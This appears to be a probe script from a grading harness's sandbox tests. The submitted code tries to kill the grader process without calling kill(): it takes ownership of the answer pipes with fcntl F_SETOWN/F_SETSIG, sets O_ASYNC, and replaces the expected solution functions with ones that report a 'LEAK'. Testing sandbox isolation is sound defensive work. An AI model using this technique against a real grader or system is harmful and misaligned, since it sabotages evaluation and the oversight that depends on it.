"""Attack: kill the grader without kill(): make it the owner of the answer pipes
(fcntl F_SETOWN, and F_SETOWN_EX, F_SETSIG) and set O_ASYNC, so the kernel sends it SIGIO,
whose default action ends a process, as soon as it reads an answer or writes a request.
The permission is the sender's uid: a grader that is not root shares the child's. Landlock
scopes signals from ABI 6 (Linux 6.12) only; on older kernels this killed the grader."""
import ctypes
import fcntl
import json
import os
import sys

F_SETOWN_EX, F_SETSIG = 15, 10
got = {}
target = os.getppid()                     # the grader, under the fallback
for fd in (int(sys.argv[1]), int(sys.argv[2])):
    for name, call in (("setown", lambda: fcntl.fcntl(fd, fcntl.F_SETOWN, target)),
                       ("setown_ex", lambda: fcntl.fcntl(fd, F_SETOWN_EX,
                                                         bytes((ctypes.c_int * 2)(1, target)))),
                       ("setsig", lambda: fcntl.fcntl(fd, F_SETSIG, 9)),
                       ("async", lambda: fcntl.fcntl(fd, fcntl.F_SETFL,
                                                     fcntl.fcntl(fd, fcntl.F_GETFL) | os.O_ASYNC))):
        try:
            call()
            # O_ASYNC alone signals no one: only naming the target is the leak.
            got[f"{fd} {name}"] = "set" if name == "async" else "ok:done"
        except BaseException as exc:
            got[f"{fd} {name}"] = type(exc).__name__


def kv_bytes_per_token(*args):
    raise RuntimeError("LEAK " + json.dumps(sorted(got.items(), key=lambda kv: "ok" not in kv[1])))


pages_for = pool_pages = worst_case_pages = check_contract = kv_bytes_per_token
